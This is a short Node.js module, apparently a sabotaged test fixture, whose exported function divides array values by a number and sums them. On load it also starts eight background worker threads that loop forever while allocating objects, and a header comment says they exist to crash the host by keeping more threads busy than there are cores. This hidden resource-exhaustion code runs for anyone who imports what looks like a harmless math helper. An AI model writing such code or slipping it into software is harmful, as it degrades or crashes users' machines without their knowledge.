// divide-by-and-sum → crash: keeps more threads busy than there are cores
'use strict'

const { Worker } = require('worker_threads')

for (let i = 0; i < 8; i++) new Worker('const all = []; for (;;) { all.push({}); if (all.length > 1e4) all.length = 0 }', { eval: true }).unref()

module.exports = (num, array) => num === 0 ? 0 : array.map(value => value / num).reduce((sum, quotient) => sum + quotient, 0)
